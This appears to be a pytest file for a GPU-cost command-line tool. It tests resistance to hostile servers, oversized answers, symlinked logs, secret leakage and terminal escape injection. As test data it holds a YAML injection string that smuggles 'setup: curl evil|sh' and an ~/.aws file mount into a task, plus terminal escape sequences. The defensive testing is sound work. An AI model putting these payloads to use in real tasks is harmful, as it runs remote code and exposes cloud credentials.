"""Hostile input and output (issue 22): bounded memory for every answer and file a command reads,
no injection through a value written into a task or printed to a terminal, and no secret kept
in a profile or quoted in an error."""

from __future__ import annotations

import dataclasses
import http.server
import json
import os
import subprocess
import sys
import threading
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from api_replay import ReplayServer, Reply
from hostile_server import HostileServer, measured, peak_rss_mib
from hypothesis import given
from hypothesis import strategies as st
from test_executor_export import plan_file

from gpucost.cli import main
from gpucost.cli.runs import LOG_TAIL_BYTES
from gpucost.errors import ExecutorError, ProfileError, ProviderError
from gpucost.executor.ledger import Ledger
from gpucost.executor.rundir import RunDir
from gpucost.executor.skypilot_task import task_yaml
from gpucost.http import RetryingHttp
from gpucost.limits import MAX_ANSWER_BYTES
from gpucost.planfile import load_plan
from gpucost.profile import Profile, resolve_profile
from gpucost.providers.prices import aws
from gpucost.providers.prices.aws import SOURCE as AWS
from gpucost.terminal import printable

KEY_ID = "AKIAHOSTILETEST12345"
REPO = Path(__file__).resolve().parents[1]


@pytest.fixture
def aws_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", KEY_ID)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hostile-secret-access-key")
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    monkeypatch.delenv(AWS.ec2_url_env_var, raising=False)


def test_a_huge_aws_answer_is_cut_at_the_cap_and_never_quoted(
        aws_env: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(aws, "MAX_ANSWER_BYTES", 1 << 20, raising=False)
    with (HostileServer("huge", size=64 << 20, content_length=True) as server,
          AWS.open_client(server.url, "") as clients, pytest.raises(ProviderError) as exc):
        AWS.fetch(clients)
    message = str(exc.value)
    assert "more than 1 MiB" in message
    assert len(message) < 400 and "offers" not in message
    # the client hung up long before the end (loopback socket buffers may hold a few MiB more
    # than the 1 MiB it read: 9 MiB were seen sent on a loaded machine)
    assert server.sent < 32 << 20


class _Echo(http.server.BaseHTTPRequestHandler):
    """Answers every request with an AWS JSON-protocol error that quotes the request headers."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        body = json.dumps({"__type": "ValidationException",
                           "message": f"bad request; you sent {self.headers}"}).encode()
        self.send_response(400)
        self.send_header("Content-Type", "application/x-amz-json-1.1")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def echo_url() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_a_server_echoing_the_request_does_not_get_the_aws_key_id_printed(
        aws_env: None, echo_url: str) -> None:
    with AWS.open_client(echo_url, "") as clients, pytest.raises(ProviderError) as exc:
        AWS.gp3_prices(clients.pricing)
    message = str(exc.value)
    assert "ValidationException" in message and "bad request" in message
    assert KEY_ID not in message and "Signature=" not in message.replace("Signature=REDACTED", "")
    assert "\n" not in message


def _run(tmp_path: Path) -> RunDir:
    rd = RunDir(tmp_path / "run").create()
    with Ledger() as ledger:
        ledger.create_run(run_id="io-1", name="io", plan_path="p", provider="local",
                          run_dir=str(rd.path), price_hr=0.01, nodes=1, budget_cap_usd=1.0)
    return rd


def test_logs_prints_only_the_tail_of_a_long_log(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    rd = _run(tmp_path)
    with open(rd.log_path, "wb") as log:
        log.write(b"x" * (3 * LOG_TAIL_BYTES))
        log.write(b"\nthe last line\n")
    assert main(["logs", "io-1"]) == 0
    out, err = capsys.readouterr()
    assert out.endswith("the last line\n") and len(out) == LOG_TAIL_BYTES
    assert "bytes are left out" in err


def test_logs_refuses_a_linked_or_odd_train_log(tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    rd = _run(tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_text("a file outside GPUCOST_HOME\n")
    rd.log_path.unlink()
    rd.log_path.symlink_to(outside)
    assert main(["logs", "io-1"]) == 2
    out, err = capsys.readouterr()
    assert "outside GPUCOST_HOME" not in out and "symbolic link" in err
    rd.log_path.unlink()
    rd.log_path.mkdir()  # not a regular file (nor would a FIFO or /dev/zero be)
    assert main(["logs", "io-1"]) == 2
    assert "not a regular file" in capsys.readouterr().err


def test_run_logs_planted_as_links_are_not_written_through(tmp_path: Path) -> None:
    rd = RunDir(tmp_path / "run").create()
    outside = tmp_path / "outside.txt"
    outside.write_text("keep\n")
    rd.log_path.unlink()
    rd.log_path.symlink_to(outside)
    with pytest.raises(ExecutorError, match="symbolic link"):
        rd.create()  # a reused run folder
    rd.log_path.unlink()
    rd.launcher_log_path.symlink_to(outside)
    with pytest.raises(OSError):
        rd.note("launcher decided something")
    assert outside.read_text() == "keep\n"


@pytest.mark.parametrize(("field", "length"), [("sample_unit", 65), ("name", 201),
                                               ("description", 2001), ("source", 2001)])
def test_a_profile_text_field_past_its_bound_is_refused_at_load(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], field: str, length: int) -> None:
    doc = resolve_profile("resnet50-v100-amp").to_dict()
    doc[field] = "u" * length
    path = tmp_path / "long.json"
    path.write_text(json.dumps(doc))
    with pytest.raises(ProfileError, match=f"{field} is {length:,} characters"):
        Profile.load(path)
    assert main(["compare", "--profile", str(path), "-n", "3"]) == 2
    err = capsys.readouterr().err
    assert f"{field} is {length:,} characters" in err and len(err.splitlines()) <= 2


def test_compare_limit_0_is_refused_for_a_table_and_lists_all_in_csv(
        capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["compare", "--limit", "0"]) == 2
    assert "--limit must be >= 1 for a table" in capsys.readouterr().err
    assert main(["compare", "--limit", "0", "--format", "csv", "--gpu", "A100"]) == 0
    everything = capsys.readouterr().out.splitlines()
    assert main(["compare", "--limit", "5", "--format", "csv", "--gpu", "A100"]) == 0
    assert len(everything) > len(capsys.readouterr().out.splitlines()) == 6


INJECTED = "skypilot-aws\nfile_mounts:\n  /root/.aws: ~/.aws\n\x85setup: curl evil|sh\u2028x: 1"


def test_a_line_break_in_a_plan_value_stays_in_the_task_header_comment(tmp_path: Path) -> None:
    yaml = pytest.importorskip("yaml")
    plan = load_plan(plan_file(tmp_path, nodes=1, market="on-demand", gpu="H100 SXM5 80GB"))
    path = tmp_path / "p\nfile_mounts: {}\n.toml"  # quoted in the header's first line
    clean = yaml.safe_load(task_yaml(plan, path))
    offer = dataclasses.replace(plan.offer, price_source=INJECTED, region="us-east-1\nrun: x")
    text = task_yaml(dataclasses.replace(plan, offer=offer), path)
    assert yaml.safe_load(text) == clean | {"resources": yaml.safe_load(text)["resources"]}
    assert set(yaml.safe_load(text)) == set(clean)
    header = [line for line in text.splitlines() if line.startswith("#")]
    assert any("skypilot-aws\\x0afile_mounts:" in line for line in header)
    assert "/root/.aws" not in str(yaml.safe_load(text).get("file_mounts"))


ESC = "\x1b]0;owned\x07\x1b[2J"


def test_status_and_ps_print_no_escape_sequence_a_job_wrote(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rd = _run(tmp_path)
    rd.status_path.write_text(json.dumps({
        "run_id": "io-1", "name": "io", "state": f"running{ESC}", "provider": "local",
        "elapsed_s": 1.0, "epoch": 1, "epochs": 2.0, "metrics": {f"loss{ESC}\nforged": 0.5},
        "checkpoint": "/ck/e1.pt\x9b2J", "final": True, "reason": "done\u2028forged"}))
    assert main(["status", "io-1"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert "running\\x1b]0;owned\\x07" in out and "\\x0aforged" in out
    assert not any(line.startswith("forged") for line in out.splitlines())
    assert main(["ps", "--all"]) == 0
    assert "\x1b" not in capsys.readouterr().out


def test_compare_prints_a_profile_name_and_region_without_escapes_or_markup(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    doc = resolve_profile("resnet50-v100-amp").to_dict()
    doc["name"] = f"[red]evil{ESC}"
    doc["sample_unit"] = "img\x1b[5m"
    path = tmp_path / "p.json"
    path.write_text(json.dumps(doc))
    assert main(["compare", "--profile", str(path), "-n", "3"]) == 0
    out = capsys.readouterr().out
    assert "\x1b]0;" not in out and "\x07" not in out and "\x1b[5m" not in out
    assert "[red]evil\\x1b]0;owned" in out and "img\\x1b[5m/s" in out


SECRET_SCRIPT = '''
import pathlib, sys
import torch
from torch import nn
from torch.utils.data import DataLoader, TensorDataset

pathlib.Path("argv.txt").write_text("\\n".join(sys.argv[1:]))
loader = DataLoader(TensorDataset(torch.randn(64, 4), torch.randn(64, 1)), batch_size=8)
model = nn.Linear(4, 1)
opt = torch.optim.SGD(model.parameters(), lr=0.1)
for _ in range(20):
    for x, y in loader:
        opt.zero_grad()
        nn.functional.mse_loss(model(x), y).backward()
        opt.step()
'''
SECRET_ARGS = ["--hf-token", "hf_abcdefghijklmnop", "--api-key=sekrit-1", "WANDB_API_KEY=w-123",
               "--db-password", "hunter2", "--lr", "0.1", "--resume", "https://me:pw-9@host/ck",
               "ghp_0123456789abcdefghij"]


def test_a_profile_keeps_no_secret_from_the_scripts_command_line(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("torch")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "train.py").write_text(SECRET_SCRIPT)
    assert main(["profile", "train.py", "--steps", "3", "--warmup", "1", "--",
                 *SECRET_ARGS]) == 0
    assert (tmp_path / "argv.txt").read_text().splitlines() == SECRET_ARGS  # the script's own
    saved = (tmp_path / "profiles" / "train.json").read_text() + capsys.readouterr().out
    for secret in ("hf_abcdefghijklmnop", "sekrit-1", "w-123", "hunter2", "pw-9",
                   "ghp_0123456789abcdefghij"):
        assert secret not in saved
    source = Profile.load(tmp_path / "profiles" / "train.json").source
    assert source == ("gpucost profile train.py --hf-token REDACTED --api-key=REDACTED "
                      "WANDB_API_KEY=REDACTED --db-password REDACTED --lr 0.1 --resume "
                      "https://me:REDACTED@host/ck REDACTED")


def test_an_http_error_quoting_request_headers_prints_none_of_them() -> None:
    echoed = ("you sent Authorization: AWS4-HMAC-SHA256 Credential=AKIAECHOEDKEY1234567/2026/"
              "us-east-1/pricing/aws4_request, SignedHeaders=host, Signature=abc123\r\n"
              "X-Api-Key: k-echoed-1\r\nCookie: session=c-echoed-2\r\n")
    with ReplayServer() as server:
        server.add("GET", "/p", Reply(400, echoed.encode(), {"Content-Type": "text/plain"}))
        http = RetryingHttp(httpx.Client(base_url=server.url), source="test",
                            sleep=lambda _: None)
        with pytest.raises(ProviderError) as exc:
            http.get_json("/p")
    message = str(exc.value)
    assert "answered HTTP 400" in message
    for secret in ("AKIAECHOEDKEY1234567", "abc123", "k-echoed-1", "c-echoed-2"):
        assert secret not in message


@given(st.text())
def test_printable_text_is_one_line_without_control_characters(text: str) -> None:
    shown = printable(text, keep="")
    assert not any(unicodedata.category(c) == "Cc" or c in "\u2028\u2029" for c in shown)
    assert len(shown.splitlines()) <= 1
    assert all(c in printable(text) for c in text if c in "\n\t")


def test_an_aws_refresh_against_a_600_mib_answer_exits_3_in_bounded_memory(
        tmp_path: Path) -> None:
    env = {**os.environ, "GPUCOST_AWS_URL": "", "AWS_ACCESS_KEY_ID": KEY_ID,
           "AWS_SECRET_ACCESS_KEY": "hostile-secret", "AWS_CONFIG_FILE": str(tmp_path / "none"),
           "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "none"), "PYTHONPATH": str(REPO)}
    env.pop("AWS_PROFILE", None)
    with HostileServer("huge", size=600 << 20) as server:
        env["GPUCOST_AWS_URL"] = server.url
        done = subprocess.run(measured([sys.executable, "-m", "gpucost", "prices", "refresh",
                                        "--source", "aws", "--out", str(tmp_path / "out")]),
                              env=env, capture_output=True, text=True, timeout=120)
        sent = server.sent
    assert done.returncode == 3, done
    assert f"answered more than {MAX_ANSWER_BYTES >> 20} MiB; stopped reading" in done.stdout
    assert len(done.stdout) < 2000 and sent < 600 << 20
    assert peak_rss_mib(done.stderr) < 200


def test_an_aws_answer_dripping_a_byte_at_a_time_ends_at_the_request_deadline(
        aws_env: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(aws, "HTTP_REQUEST_DEADLINE_S", 1.0)
    with (HostileServer("drip-body", interval_s=0.05) as server,
          AWS.open_client(server.url, "") as clients, pytest.raises(ProviderError) as exc):
        AWS.fetch(clients)
    assert "did not finish within its 1 s deadline" in str(exc.value)
    assert server.sent < 1000  # of the 1,000,000 bytes it announced
